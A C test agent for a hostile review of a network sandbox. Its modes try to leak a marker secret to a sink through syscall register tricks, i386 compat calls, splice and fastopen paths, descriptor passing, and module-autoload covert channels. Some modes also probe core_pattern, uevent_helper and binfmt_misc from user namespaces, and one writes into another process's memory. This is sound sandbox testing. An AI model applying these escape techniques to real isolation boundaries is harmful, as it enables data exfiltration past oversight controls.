/* ha57-agent.c: hostile review h-attack57, fresh variants of issue 11's six
 * classes. One static binary, one mode per run:
 *   ha57-agent MODE [ADDR:]SINKPORT [VICTIM-ADDRESS]
 * The sink is ADDR (127.0.0.1 by default):SINKPORT, UDP and TCP, undeclared
 * (--no-loopback, nothing allowed; in the guest cells 203.0.113.5:9999). Every mode tries to put
 * "ha57secret-MODE" there and prints "ha57 MODE: step: result" lines; the harness says whether the
 * sink got it and what the verdict was.
 * Modes:
 *   hb-addrlen   connect/sendto with 1<<32 in the address length register
 *   hb-fd        sendto with 1<<32 in the descriptor register
 *   hb-flags     sendto(MSG_FASTOPEN | 1<<32) on a fresh TCP socket
 *   hb-opt       trapped options (SO_DONTROUTE, IP_OPTIONS LSRR,
 *                SO_BINDTODEVICE, IP_ADD_MEMBERSHIP) with 1<<32 in level
 *                and optname; read back with getsockopt
 *   hb-socket    socket() of refused kinds with 1<<32 in each register
 *   hb-ioctl     TUNSETIFF | 1<<32 on /dev/net/tun
 *   i386         int 0x80: socket, sendto, socketcall(SENDTO), sendmsg,
 *                pidfd_getfd, process_vm_writev, socketpair
 *   families     socket() and socketpair() of connect-less kinds
 *   fastopen     sendmsg/sendmmsg MSG_FASTOPEN, TCP_FASTOPEN_CONNECT + write
 *   splice       sendfile/splice/vmsplice into an unconnected UDP and a
 *                TCP socket whose connect was denied
 *   cmsg         sendmsg with IP_RETOPTS (LSRR), IP_OPTIONS, IPV6_RTHDR
 *   listen       listen() unbound, wildcard, v4-mapped any, after
 *                TCP_FASTOPEN, and a TCP simultaneous open without listen
 *   all          every mode above but scm, in one run (the guest cell)
 *   scm          connect to abstract @ha57-scm (a host process), receive a
 *                UDP socket connected to the sink, write()
 *   sp-name      the secret's bytes as protocol numbers of socketpair()
 *                calls: module autoload names for kernel.modprobe
 *   ldisc        TIOCSETD 1-29 on a pty: "tty-ldisc-N" autoloads
 *   helpers      root helpers: core_pattern, modprobe, uevent_helper,
 *                binfmt_misc, a fresh proc/sysfs in a user namespace
 *                (each knob's own value written back)
 *   stdio-mem, stdio-accept, stdio-scm   class 6 on descriptor 0, as
 *                ha57-stdio.py prepares it
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/stat.h>
#include <sys/resource.h>
#include <stddef.h>
#include <signal.h>
#include <unistd.h>

#define HB (1ULL << 32)

static const char *mode;
static int sinkport;
static struct in_addr sinkaddr;
static char secret[64];

static void say(const char *step, long rc)
{
	if (rc < 0)
		printf("ha57 %s: %s: -1 %s\n", mode, step, strerror(errno));
	else
		printf("ha57 %s: %s: %ld\n", mode, step, rc);
	fflush(stdout);
}

static struct sockaddr_in sink(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(sinkport)};

	a.sin_addr = sinkaddr;
	return a;
}

static void hb_addrlen(void)
{
	struct sockaddr_in a = sink();
	int u = socket(AF_INET, SOCK_DGRAM, 0), t = socket(AF_INET, SOCK_STREAM, 0);

	say("sendto len|1<<32",
	    syscall(SYS_sendto, u, secret, strlen(secret), 0, &a, HB | sizeof(a)));
	say("connect len|1<<32", syscall(SYS_connect, t, &a, HB | sizeof(a)));
	say("write after", write(t, secret, strlen(secret)));
	say("connect udp len|1<<32", syscall(SYS_connect, u, &a, HB | sizeof(a)));
	say("write udp", write(u, secret, strlen(secret)));
}

static void hb_fd(void)
{
	struct sockaddr_in a = sink();
	int u = socket(AF_INET, SOCK_DGRAM, 0), t = socket(AF_INET, SOCK_STREAM, 0);

	say("sendto fd|1<<32",
	    syscall(SYS_sendto, HB | u, secret, strlen(secret), 0, &a, sizeof(a)));
	say("connect fd|1<<32", syscall(SYS_connect, HB | t, &a, sizeof(a)));
	say("write after", write(t, secret, strlen(secret)));
}

static void hb_flags(void)
{
	struct sockaddr_in a = sink();
	int t = socket(AF_INET, SOCK_STREAM, 0);

	say("sendto FASTOPEN|1<<32",
	    syscall(SYS_sendto, t, secret, strlen(secret), HB | MSG_FASTOPEN, &a, sizeof(a)));
	say("write after", write(t, secret, strlen(secret)));
	t = socket(AF_INET, SOCK_STREAM, 0);
	/* flags with only high bits: the kernel sees 0, a plain send */
	say("sendto (1<<33) name",
	    syscall(SYS_sendto, t, secret, strlen(secret), 1ULL << 33, &a, sizeof(a)));
}

static void hb_opt(void)
{
	int u = socket(AF_INET, SOCK_DGRAM, 0), one = 1, v = 0;
	socklen_t l = sizeof(v);
	unsigned char lsrr[8] = {IPOPT_NOP, IPOPT_LSRR, 7, 4, 127, 0, 0, 1};
	unsigned char got[40];
	struct ip_mreq mr = {.imr_multiaddr.s_addr = htonl(0xe0000001)};

	say("SO_DONTROUTE hb",
	    syscall(SYS_setsockopt, u, HB | SOL_SOCKET, HB | SO_DONTROUTE, &one, HB | sizeof(one)));
	getsockopt(u, SOL_SOCKET, SO_DONTROUTE, &v, &l);
	say("SO_DONTROUTE now", v);
	say("IP_OPTIONS hb",
	    syscall(SYS_setsockopt, u, HB | IPPROTO_IP, HB | IP_OPTIONS, lsrr, sizeof(lsrr)));
	l = sizeof(got);
	getsockopt(u, IPPROTO_IP, IP_OPTIONS, got, &l);
	say("IP_OPTIONS length now", l);
	say("SO_BINDTODEVICE hb",
	    syscall(SYS_setsockopt, u, HB | SOL_SOCKET, HB | SO_BINDTODEVICE, "lo", 3));
	v = 0;
	l = sizeof(v);
	getsockopt(u, SOL_SOCKET, SO_BINDTOIFINDEX, &v, &l);
	say("bound ifindex now", v);
	say("IP_ADD_MEMBERSHIP hb",
	    syscall(SYS_setsockopt, u, HB | IPPROTO_IP, HB | IP_ADD_MEMBERSHIP, &mr, sizeof(mr)));
	say("SO_BINDTODEVICE optlen hb (low 0)",
	    syscall(SYS_setsockopt, u, SOL_SOCKET, SO_BINDTODEVICE, "lo", HB | 3));
}

static void hb_socket(void)
{
	static const struct {
		int f, t, p;
		const char *n;
	} k[] = {{AF_PACKET, SOCK_DGRAM, 0x0300, "packet"},
		 {AF_INET, SOCK_RAW, IPPROTO_UDP, "raw"},
		 {AF_INET, SOCK_STREAM, 262, "mptcp"},
		 {AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE, "udplite"},
		 {AF_INET, SOCK_SEQPACKET, IPPROTO_SCTP, "sctp"},
		 {AF_INET, SOCK_DGRAM, IPPROTO_ICMP, "ping"},
		 {AF_NETLINK, SOCK_RAW, 16, "genl"}};
	char b[64];

	for (size_t i = 0; i < sizeof(k) / sizeof(k[0]); i++) {
		snprintf(b, sizeof(b), "%s family|hb", k[i].n);
		say(b, syscall(SYS_socket, HB | k[i].f, k[i].t, k[i].p));
		snprintf(b, sizeof(b), "%s type|hb", k[i].n);
		say(b, syscall(SYS_socket, k[i].f, HB | k[i].t, k[i].p));
		snprintf(b, sizeof(b), "%s proto|hb", k[i].n);
		say(b, syscall(SYS_socket, k[i].f, k[i].t, HB | k[i].p));
		snprintf(b, sizeof(b), "%s all|hb+CLOEXEC", k[i].n);
		say(b, syscall(SYS_socket, HB | k[i].f, HB | k[i].t | SOCK_CLOEXEC | SOCK_NONBLOCK,
			       HB | k[i].p));
	}
}

static void hb_ioctl(void)
{
	int fd = open("/dev/net/tun", O_RDWR);
	struct ifreq ifr = {.ifr_flags = IFF_TUN | IFF_NO_PI};

	say("open /dev/net/tun", fd);
	strcpy(ifr.ifr_name, "ha57tun");
	if (fd >= 0)
		say("TUNSETIFF|1<<32", syscall(SYS_ioctl, fd, HB | TUNSETIFF, &ifr));
}

/* i386 system calls from a 64-bit process: int 0x80 takes the 32-bit ABI's
 * numbers and registers; pointers must be below 4 GiB. */
static long i386(long nr, long a, long b, long c, long d, long e, long f)
{
	long r;

	__asm__ volatile("push %%rbp\n\tmov %7, %%rbp\n\tint $0x80\n\tpop %%rbp"
			 : "=a"(r)
			 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), "g"(f)
			 : "memory", "r8", "r9", "r10", "r11");
	if (r < 0 && r > -4096) {
		errno = (int)-r;
		return -1;
	}
	return r;
}

static void do_i386(void)
{
	unsigned char *lo = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
				 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	struct sockaddr_in a = sink();
	uint32_t *args = (uint32_t *)(lo + 512);
	int u, sv[2] = {-1, -1};

	if (lo == MAP_FAILED) {
		say("mmap32", -1);
		return;
	}
	memcpy(lo, &a, sizeof(a));
	strcpy((char *)lo + 64, secret);
	say("i386 socket(AF_INET,DGRAM)", i386(359, AF_INET, SOCK_DGRAM, 0, 0, 0, 0));
	say("i386 socket(AF_PACKET)", i386(359, AF_PACKET, SOCK_DGRAM, 0x0300, 0, 0, 0));
	u = socket(AF_INET, SOCK_DGRAM, 0);
	say("i386 sendto", i386(369, u, (long)(lo + 64), (long)strlen(secret), 0, (long)lo, 16));
	args[0] = (uint32_t)u;
	args[1] = (uint32_t)(uintptr_t)(lo + 64);
	args[2] = (uint32_t)strlen(secret);
	args[3] = 0;
	args[4] = (uint32_t)(uintptr_t)lo;
	args[5] = 16;
	say("i386 socketcall(SENDTO)", i386(102, 11, (long)args, 0, 0, 0, 0));
	/* compat msghdr: name, namelen, iov, iovlen, control, controllen, flags */
	{
		uint32_t *iov = (uint32_t *)(lo + 1024), *mh = (uint32_t *)(lo + 1100);

		iov[0] = (uint32_t)(uintptr_t)(lo + 64);
		iov[1] = (uint32_t)strlen(secret);
		mh[0] = (uint32_t)(uintptr_t)lo;
		mh[1] = 16;
		mh[2] = (uint32_t)(uintptr_t)iov;
		mh[3] = 1;
		mh[4] = mh[5] = mh[6] = 0;
		say("i386 sendmsg", i386(370, u, (long)mh, 0, 0, 0, 0));
		say("i386 connect", i386(362, u, (long)lo, 16, 0, 0, 0));
		say("write after i386 connect", write(u, secret, strlen(secret)));
	}
	say("i386 socketpair(AF_INET)", i386(360, AF_INET, SOCK_DGRAM, 0, (long)(lo + 2048), 0, 0));
	say("i386 pidfd_getfd(self pidfd, 0)",
	    i386(438, syscall(SYS_pidfd_open, getpid(), 0), 0, 0, 0, 0, 0));
	say("i386 kcmp", i386(349, getpid(), getpid(), 0, 0, 0, 0));
	say("i386 prlimit64(1)", i386(340, 1, RLIMIT_CPU, 0, (long)(lo + 3000), 0, 0));
	say("i386 io_uring_setup", i386(425, 4, (long)(lo + 3072), 0, 0, 0, 0));
	say("x32 sendto", syscall(0x40000000 | 44, u, secret, strlen(secret), 0, &a, sizeof(a)));
	(void)sv;
}

static void families(void)
{
	static const struct {
		int f, t, p;
		const char *n;
	} k[] = {{AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE, "udplite"},
		 {AF_INET6, SOCK_DGRAM, IPPROTO_UDPLITE, "udplite6"},
		 {AF_INET, SOCK_DCCP, 33, "dccp"},
		 {AF_INET, SOCK_STREAM, 262, "mptcp"},
		 {AF_INET6, SOCK_STREAM, 262, "mptcp6"},
		 {AF_PACKET, SOCK_PACKET, 0x0300, "sock_packet"},
		 {AF_INET, SOCK_PACKET, 0x0300, "inet sock_packet"},
		 {21 /* AF_RDS */, SOCK_SEQPACKET, 0, "rds"},
		 {30 /* AF_TIPC */, SOCK_RDM, 0, "tipc"},
		 {41 /* AF_KCM */, SOCK_DGRAM, 0, "kcm"},
		 {38 /* AF_ALG */, SOCK_SEQPACKET, 0, "alg"},
		 {40 /* AF_VSOCK */, SOCK_STREAM, 0, "vsock"},
		 {44 /* AF_XDP */, SOCK_RAW, 0, "xdp"},
		 {43 /* AF_SMC */, SOCK_STREAM, 0, "smc"},
		 {AF_INET, SOCK_STREAM, 256 /* IPPROTO_SMC (6.11) */, "inet smc"},
		 {42 /* AF_QIPCRTR */, SOCK_DGRAM, 0, "qipcrtr"},
		 {AF_INET, SOCK_DGRAM, IPPROTO_ICMP, "ping"},
		 {AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6, "ping6"},
		 {AF_INET, SOCK_STREAM, IPPROTO_SCTP, "sctp stream"},
		 {AF_NETLINK, SOCK_DGRAM, 0, "netlink route"},
		 {AF_NETLINK, SOCK_DGRAM, 4 /* SOCK_DIAG */, "netlink diag"},
		 {AF_INET, SOCK_STREAM, 0, "tcp (control)"},
		 {AF_INET, SOCK_DGRAM, 0, "udp (control)"}};
	char b[64];

	for (size_t i = 0; i < sizeof(k) / sizeof(k[0]); i++) {
		int sv[2];

		snprintf(b, sizeof(b), "socket %s", k[i].n);
		say(b, socket(k[i].f, k[i].t, k[i].p));
		snprintf(b, sizeof(b), "socketpair %s", k[i].n);
		say(b, socketpair(k[i].f, k[i].t, k[i].p, sv));
	}
}

static void fastopen(void)
{
	struct sockaddr_in a = sink();
	struct iovec iov = {secret, strlen(secret)};
	struct msghdr mh = {
	    .msg_name = &a, .msg_namelen = sizeof(a), .msg_iov = &iov, .msg_iovlen = 1};
	struct mmsghdr mm = {.msg_hdr = mh};
	int t = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	say("sendmsg FASTOPEN", sendmsg(t, &mh, MSG_FASTOPEN));
	t = socket(AF_INET, SOCK_STREAM, 0);
	say("sendmmsg FASTOPEN", sendmmsg(t, &mm, 1, MSG_FASTOPEN));
	t = socket(AF_INET, SOCK_STREAM, 0);
	say("TCP_FASTOPEN_CONNECT",
	    setsockopt(t, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof(one)));
	say("connect (deferred)", connect(t, (struct sockaddr *)&a, sizeof(a)));
	say("write after", write(t, secret, strlen(secret)));
	/* sendto on an unconnected stream with a name, no flag: EPIPE due */
	t = socket(AF_INET, SOCK_STREAM, 0);
	say("sendto stream no flag",
	    sendto(t, secret, strlen(secret), MSG_NOSIGNAL, (struct sockaddr *)&a, sizeof(a)));
	/* a name of another family on a v6 socket: udpv6 sends AF_INET names
	 * as IPv4 */
	t = socket(AF_INET6, SOCK_DGRAM, 0);
	say("v6 udp sendto AF_INET name",
	    sendto(t, secret, strlen(secret), 0, (struct sockaddr *)&a, sizeof(a)));
	t = socket(AF_INET6, SOCK_STREAM, 0);
	say("v6 tcp sendto FASTOPEN AF_INET name",
	    sendto(t, secret, strlen(secret), MSG_FASTOPEN, (struct sockaddr *)&a, sizeof(a)));
}

static void do_splice(void)
{
	struct sockaddr_in a = sink();
	int u = socket(AF_INET, SOCK_DGRAM, 0), t = socket(AF_INET, SOCK_STREAM, 0), p[2];
	char path[] = "/tmp/ha57-splice-XXXXXX";
	int f = mkstemp(path);
	struct iovec iov = {secret, strlen(secret)};

	if (f < 0)
		f = open("/dev/shm", O_TMPFILE | O_RDWR, 0600);
	say("payload file", f);
	if (f >= 0) {
		say("write payload", write(f, secret, strlen(secret)));
		unlink(path);
	}
	say("connect tcp (denied due)", connect(t, (struct sockaddr *)&a, sizeof(a)));
	say("sendfile udp", sendfile(u, f, &(off_t){0}, strlen(secret)));
	say("sendfile tcp", sendfile(t, f, &(off_t){0}, strlen(secret)));
	pipe(p);
	say("vmsplice", vmsplice(p[1], &iov, 1, 0));
	say("splice udp", splice(p[0], NULL, u, NULL, strlen(secret), 0));
	say("bind udp wildcard",
	    bind(u, (struct sockaddr *)&(struct sockaddr_in){.sin_family = AF_INET},
		 sizeof(struct sockaddr_in)));
	say("sendfile udp bound", sendfile(u, f, &(off_t){0}, strlen(secret)));
}

static void cmsg(void)
{
	struct sockaddr_in a = sink();
	int u = socket(AF_INET, SOCK_DGRAM, 0), u6 = socket(AF_INET6, SOCK_DGRAM, 0);
	struct iovec iov = {secret, strlen(secret)};
	union {
		struct cmsghdr h;
		char b[128];
	} c;
	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = &c};
	unsigned char lsrr[8] = {IPOPT_NOP, IPOPT_LSRR, 7, 4, 127, 0, 0, 1};
	struct cmsghdr *h = &c.h;

	memset(&c, 0, sizeof(c));
	h->cmsg_level = IPPROTO_IP;
	h->cmsg_type = IP_RETOPTS;
	h->cmsg_len = CMSG_LEN(sizeof(lsrr));
	memcpy(CMSG_DATA(h), lsrr, sizeof(lsrr));
	mh.msg_controllen = CMSG_SPACE(sizeof(lsrr));
	say("sendmsg IP_RETOPTS no name (unconnected)", sendmsg(u, &mh, 0));
	mh.msg_name = &a;
	mh.msg_namelen = sizeof(a);
	say("sendmsg IP_RETOPTS named", sendmsg(u, &mh, 0));
	h->cmsg_type = IP_OPTIONS;
	say("sendmsg IP_OPTIONS named", sendmsg(u, &mh, 0));
	/* cmsg level with high bits: the kernel's cmsg_level is an int in
	 * memory, no register; a level of (int)0 + type 7 instead */
	h->cmsg_level = IPPROTO_IP;
	h->cmsg_type = 7; /* IP_RETOPTS */
	say("sendmmsg IP_RETOPTS", sendmmsg(u, &(struct mmsghdr){.msg_hdr = mh}, 1, 0));
	h->cmsg_level = IPPROTO_IPV6;
	h->cmsg_type = 57; /* IPV6_RTHDR: a type 0 header, rejected by most kernels */
	h->cmsg_len = CMSG_LEN(24);
	mh.msg_controllen = CMSG_SPACE(24);
	say("sendmsg IPV6_RTHDR v4name on v6", sendmsg(u6, &mh, 0));
	close(u);
}

static void do_listen(void)
{
	int t = socket(AF_INET, SOCK_STREAM, 0), q = 5;
	struct sockaddr_in6 m = {.sin6_family = AF_INET6};
	struct sockaddr_in w = {.sin_family = AF_INET};
	struct sockaddr_in a = sink();
	int t6 = socket(AF_INET6, SOCK_STREAM, 0);

	say("listen unbound", listen(t, 1));
	say("listen unbound hb backlog", syscall(SYS_listen, HB | t, HB | 1));
	t = socket(AF_INET, SOCK_STREAM, 0);
	say("TCP_FASTOPEN on unbound", setsockopt(t, IPPROTO_TCP, TCP_FASTOPEN, &q, sizeof(q)));
	say("bind wildcard", bind(t, (struct sockaddr *)&w, sizeof(w)));
	say("listen wildcard", listen(t, 1));
	inet_pton(AF_INET6, "::ffff:0.0.0.0", &m.sin6_addr);
	say("bind v6 ::ffff:0.0.0.0", bind(t6, (struct sockaddr *)&m, sizeof(m)));
	say("listen v6 mapped any", listen(t6, 1));
	/* simultaneous open needs a connect: judged */
	t = socket(AF_INET, SOCK_STREAM, 0);
	w.sin_port = htons(sinkport + 1);
	say("bind port", bind(t, (struct sockaddr *)&w, sizeof(w)));
	say("connect (simultaneous open)", connect(t, (struct sockaddr *)&a, sizeof(a)));
}

static void scm(void)
{
	int s = socket(AF_UNIX, SOCK_STREAM, 0), fd = -1;
	struct sockaddr_un un = {.sun_family = AF_UNIX};
	char b[16], cb[CMSG_SPACE(sizeof(int))];
	struct iovec iov = {b, sizeof(b)};
	struct msghdr mh = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cb, .msg_controllen = sizeof(cb)};

	strcpy(un.sun_path + 1, "ha57-scm");
	say("connect @ha57-scm",
	    connect(s, (struct sockaddr *)&un, offsetof(struct sockaddr_un, sun_path) + 9));
	int n = (int)recvmsg(s, &mh, 0);

	say("recvmsg", n);
	if (n >= 0 && mh.msg_controllen >= CMSG_LEN(sizeof(int)))
		memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&mh)), sizeof(int));
	say("received fd", fd);
	if (fd >= 0) {
		say("write on it", write(fd, secret, strlen(secret)));
		say("send on it", send(fd, secret, strlen(secret), 0));
	}
}

/* Writes a knob's own current value back (v NULL): the answer says whether
 * it is writable without changing the host's value where the agent runs
 * unsupervised as root (the harness's control run). */
static void wr(const char *p, const char *v)
{
	int fd = open(p, O_RDWR);
	char b[160], cur[256];
	ssize_t n;

	snprintf(b, sizeof(b), "write %s%s", p, v ? "" : " (same value)");
	if (fd < 0) {
		say(b, -1);
		return;
	}
	if (v == NULL) {
		n = read(fd, cur, sizeof(cur) - 1);
		if (n <= 0) {
			say(b, -1);
			close(fd);
			return;
		}
		cur[n] = '\0';
		v = cur;
		lseek(fd, 0, SEEK_SET);
	}
	say(b, write(fd, v, strlen(v)));
	close(fd);
}

static void helpers(void)
{
	pid_t pid;
	int st;

	wr("/proc/sys/kernel/core_pattern", NULL);
	wr("/proc/sys/kernel/modprobe", NULL);
	wr("/sys/kernel/uevent_helper", NULL);
	/* on /tmp itself: it exists in every run (a read-only /tmp has no room
	 * for a mount point of our own) */
	say("mount binfmt_misc on /tmp", mount("none", "/tmp", "binfmt_misc", 0, NULL));
	say("mount proc on /tmp", mount("proc", "/tmp", "proc", 0, NULL));
	/* a user namespace keeps the global euid 0 where uid_map is "0 0 1",
	 * and sysctl files check the euid alone */
	say("unshare user|mnt|pid|net",
	    unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET));
	{
		int fd = open("/proc/self/setgroups", O_WRONLY);

		if (fd >= 0) {
			write(fd, "deny", 4);
			close(fd);
		}
	}
	wr("/proc/self/uid_map", "0 0 1");
	wr("/proc/self/gid_map", "0 0 1");
	pid = fork();
	if (pid == 0) {
		mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
		say("userns: euid", geteuid());
		/* on /tmp itself: an unmapped euid cannot make a mount point */
		say("userns: mount proc", mount("proc", "/tmp", "proc", 0, NULL));
		wr("/tmp/sys/kernel/core_pattern", NULL);
		umount2("/tmp", MNT_DETACH);
		say("userns: remount /proc/sys rw",
		    mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
		wr("/proc/sys/kernel/core_pattern", NULL);
		say("userns: mount sysfs", mount("sysfs", "/tmp", "sysfs", 0, NULL));
		wr("/tmp/kernel/uevent_helper", NULL);
		umount2("/tmp", MNT_DETACH);
		say("userns: mount binfmt_misc", mount("none", "/tmp", "binfmt_misc", 0, NULL));
		wr("/tmp/register", ":ha57:E::ha57::/bin/true:");
		_exit(0);
	}
	waitpid(pid, &st, 0);
}

/* socketpair() is not trapped: each call of an inet family whose protocol
 * the kernel does not know has inet_create ask kernel.modprobe (full root,
 * outside the run) for "net-pf-2-proto-P-type-T", then "net-pf-2-proto-P":
 * one byte of the agent's in P a call, no trapped call at all. */
static void sp_name(void)
{
	int sv[2];

	for (const char *p = secret; *p && *p != '\n'; p++)
		socketpair(AF_INET, SOCK_DGRAM, (unsigned char)*p, sv);
	say("socketpair calls", (long)strlen(secret) - 1);
}

/* TIOCSETD on a pty of the agent's own: a line discipline the kernel does
 * not have is asked of kernel.modprobe as "tty-ldisc-N" where
 * dev.tty.ldisc_autoload is 1 (CONFIG_LDISC_AUTOLOAD, Debian's default),
 * no capability needed; N < 30, about 4.9 bits a call. */
static void ldisc(void)
{
	int m = open("/dev/ptmx", O_RDWR | O_NOCTTY), s = -1, n;

	say("open /dev/ptmx", m);
	if (m < 0) {
		/* the run's /dev has none: a devpts instance of our own, in a
		 * user and mount namespace of our own */
		say("unshare user|mnt", unshare(CLONE_NEWUSER | CLONE_NEWNS));
		say("mount devpts on /tmp",
		    mount("devpts", "/tmp", "devpts", 0, "newinstance,ptmxmode=0666,mode=0666"));
		m = open("/tmp/ptmx", O_RDWR | O_NOCTTY);
		say("open /tmp/ptmx", m);
		if (m < 0)
			return;
	}
	unlockpt(m);
	s = ioctl(m, TIOCGPTPEER, O_RDWR | O_NOCTTY);
	say("TIOCGPTPEER", s);
	for (n = 1; n < 30; n++) {
		int r = ioctl(s, TIOCSETD, &n);

		if (r == 0)
			ioctl(s, TIOCSETD, &(int){0});
		printf("ha57 %s: TIOCSETD %d: %s\n", mode, n, r == 0 ? "0" : strerror(errno));
	}
	fflush(stdout);
}

/* Class 6 through descriptor 0 (ha57-stdio.py prepares it). */
static void stdio_mem(const char *addr)
{
	int fd = openat(0, "mem", O_RDWR);
	unsigned long a = strtoul(addr, NULL, 16);

	say("openat(0, mem)", fd);
	if (fd >= 0)
		say("pwrite victim buffer", pwrite(fd, secret, strlen(secret) + 1, (off_t)a));
	fd = openat(0, "fd/3", O_RDWR);
	say("openat(0, fd/3)", fd);
	if (fd >= 0)
		say("write fd/3", write(fd, secret, strlen(secret)));
}

static void stdio_accept(void)
{
	int c = accept(0, NULL, NULL);

	say("accept(0)", c);
	if (c >= 0)
		say("write", write(c, secret, strlen(secret)));
}

static void stdio_scm(void)
{
	char b[16], cb[CMSG_SPACE(sizeof(int))];
	struct iovec iov = {b, sizeof(b)};
	struct msghdr mh = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cb, .msg_controllen = sizeof(cb)};
	int fd = -1, one = 1;

	say("SO_PASSRIGHTS on (6.16)", setsockopt(0, SOL_SOCKET, 83, &one, sizeof(one)));
	sleep(2);
	int n = (int)recvmsg(0, &mh, MSG_DONTWAIT);

	say("recvmsg(0)", n);
	if (n >= 0 && mh.msg_controllen >= CMSG_LEN(sizeof(int)))
		memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&mh)), sizeof(int));
	say("received fd", fd);
	if (fd >= 0)
		say("write on it", write(fd, secret, strlen(secret)));
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: %s MODE SINKPORT\n", argv[0]);
		return 2;
	}
	signal(SIGPIPE, SIG_IGN);
	mode = argv[1];
	{
		char *colon = strchr(argv[2], ':');

		sinkaddr.s_addr = htonl(INADDR_LOOPBACK);
		if (colon) {
			*colon = '\0';
			inet_pton(AF_INET, argv[2], &sinkaddr);
			argv[2] = colon + 1;
		}
	}
	sinkport = atoi(argv[2]);
	snprintf(secret, sizeof(secret), "ha57secret-%s\n", mode);
	printf("ha57 %s: uid %d\n", mode, (int)getuid());
	/* helpers (and all, which runs it) mounts on /tmp: never by accident
	 * as the host's root without the supervisor */
	if ((!strcmp(mode, "helpers") || !strcmp(mode, "all")) &&
	    (argc < 4 || strcmp(argv[3], "mounts-ok") != 0)) {
		fprintf(stderr, "%s: give mounts-ok as the third argument\n", mode);
		return 2;
	}
	if (!strcmp(mode, "all")) {
		/* the guest's one cell: every mode but scm, helpers last (it
		 * unshares) */
		static void (*const f[])(void) = {
		    hb_addrlen, hb_fd,    hb_flags,  hb_opt, hb_socket, hb_ioctl, do_i386,
		    families,   fastopen, do_splice, cmsg,   do_listen, helpers};
		static const char *const n[] = {
		    "hb-addrlen", "hb-fd",    "hb-flags", "hb-opt", "hb-socket", "hb-ioctl", "i386",
		    "families",   "fastopen", "splice",   "cmsg",   "listen",    "helpers"};

		for (size_t i = 0; i < sizeof(f) / sizeof(f[0]); i++) {
			mode = n[i];
			snprintf(secret, sizeof(secret), "ha57secret-%s\n", mode);
			f[i]();
		}
	} else if (!strcmp(mode, "ldisc"))
		ldisc();
	else if (!strcmp(mode, "sp-name"))
		sp_name();
	else if (!strcmp(mode, "stdio-mem"))
		stdio_mem(argc > 3 ? argv[3] : "0");
	else if (!strcmp(mode, "stdio-accept"))
		stdio_accept();
	else if (!strcmp(mode, "stdio-scm"))
		stdio_scm();
	else if (!strcmp(mode, "hb-addrlen"))
		hb_addrlen();
	else if (!strcmp(mode, "hb-fd"))
		hb_fd();
	else if (!strcmp(mode, "hb-flags"))
		hb_flags();
	else if (!strcmp(mode, "hb-opt"))
		hb_opt();
	else if (!strcmp(mode, "hb-socket"))
		hb_socket();
	else if (!strcmp(mode, "hb-ioctl"))
		hb_ioctl();
	else if (!strcmp(mode, "i386"))
		do_i386();
	else if (!strcmp(mode, "families"))
		families();
	else if (!strcmp(mode, "fastopen"))
		fastopen();
	else if (!strcmp(mode, "splice"))
		do_splice();
	else if (!strcmp(mode, "cmsg"))
		cmsg();
	else if (!strcmp(mode, "listen"))
		do_listen();
	else if (!strcmp(mode, "scm"))
		scm();
	else if (!strcmp(mode, "helpers"))
		helpers();
	else {
		fprintf(stderr, "unknown mode %s\n", mode);
		return 2;
	}
	sleep(1);
	return 0;
}
